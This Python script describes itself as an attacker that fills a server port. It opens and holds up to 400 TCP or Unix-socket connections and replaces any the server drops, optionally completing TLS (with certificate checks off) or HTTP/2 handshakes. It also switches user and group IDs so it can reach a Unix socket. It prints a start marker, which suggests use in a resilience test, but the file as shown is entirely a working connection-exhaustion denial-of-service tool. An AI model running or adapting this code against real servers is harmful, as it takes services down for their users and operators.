"""An attacker that fills a port: `flood.py ADDRESS SOURCE [tls|http2]`, ADDRESS as HOST:PORT or
unix:PATH, from the address SOURCE, or by the account with that number.

It opens connections as fast as it can, holds those that last, and replaces those that end. Bare
ones say nothing; with `tls`, they finish the handshake; with `http2`, also that of HTTP/2, and make
no call.
"""

from __future__ import annotations

import os
import select
import socket
import ssl
import sys
from contextlib import suppress

HELD = 400
SETTINGS = bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SETTINGS


class Attacker:
    """What it has open."""

    def __init__(self, address: str, source: str, says: str = "") -> None:
        self._path = address.removeprefix("unix:") if address.startswith("unix:") else None
        host, _, port = address.rpartition(":")
        self._there = self._path or (host, int(port))
        self._source, self._says = source, says
        self._context = ssl.create_default_context()
        self._context.check_hostname, self._context.verify_mode = False, ssl.CERT_NONE
        self._context.set_alpn_protocols(["h2"])
        self._held: dict[int, socket.socket] = {}
        self._ends = select.poll()

    def become(self) -> None:
        """Be the account, in the group that may use the Unix socket."""
        if self._path is not None:
            os.setgroups([os.stat(self._path).st_gid])
            os.setresuid(*3 * (int(self._source),))

    def open(self) -> None:
        """One more. Raises OSError."""
        one = socket.socket(socket.AF_UNIX if self._path else socket.AF_INET)
        one.settimeout(2)
        if self._path is None:
            one.bind((self._source, 0))
        one.connect(self._there)
        if self._says and self._path is None:
            one = self._context.wrap_socket(one)
        if self._says == "http2":
            one.sendall(PREFACE)
        self._held[one.fileno()] = one
        self._ends.register(one, select.POLLRDHUP)

    def replace_ended(self) -> None:
        """Let go of those that the server has ended, and wait while there is no room for others."""
        full = len(self._held) >= HELD
        for number, _ in self._ends.poll(100 if full else 0):
            self._ends.unregister(number)
            self._held.pop(number).close()

    def run(self) -> None:
        """Goes on until it is ended; says so once it has begun."""
        self.become()
        self.open()
        print("flooding", flush=True)
        while True:
            self.replace_ended()
            if len(self._held) < HELD:
                with suppress(OSError):
                    self.open()


if __name__ == "__main__":
    Attacker(*sys.argv[1:]).run()
